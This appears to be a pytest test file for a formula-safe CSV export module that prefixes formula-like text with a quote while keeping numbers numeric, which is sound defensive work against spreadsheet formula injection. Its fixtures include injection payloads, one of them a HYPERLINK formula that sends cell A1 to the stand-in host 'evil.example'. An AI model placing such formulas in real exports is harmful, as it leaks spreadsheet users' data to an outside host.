"""Spreadsheet-safe CSV: text a spreadsheet would run as a formula is written as text; numbers
we write stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from giving.exports import formula_safe_writer, safe_cell, write_rows

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "-5",  # typed by a person, so text, even though it looks like a number
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Castle Hill Larder", "E17 4QH", "a=b", "1+1", "", "'quoted", "2026-09-01"]
)
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 12, Decimal("-3000.00"), Decimal("12.50"), -1.5])
def test_numbers_we_write_stay_numbers_even_when_negative(number):
    assert safe_cell(number) is number


def test_nothing_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_the_writer_makes_every_cell_safe_and_a_spreadsheet_reads_the_text_back():
    out = io.StringIO()
    writer = formula_safe_writer(out)
    writer.writerow(["Name", "Amount"])
    writer.writerows([[text, Decimal("-12.50")] for text in FORMULAS])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["Name", "Amount"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert {row[1] for row in rows[1:]} == {"-12.50"}


def test_a_comma_or_quote_cannot_start_a_new_cell():
    out = io.StringIO()
    write_rows(out, [["Larder,=1+1", 'A "quote" then,@SUM(A1)', -7]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["Larder,=1+1", 'A "quote" then,@SUM(A1)', "-7"]
    ]
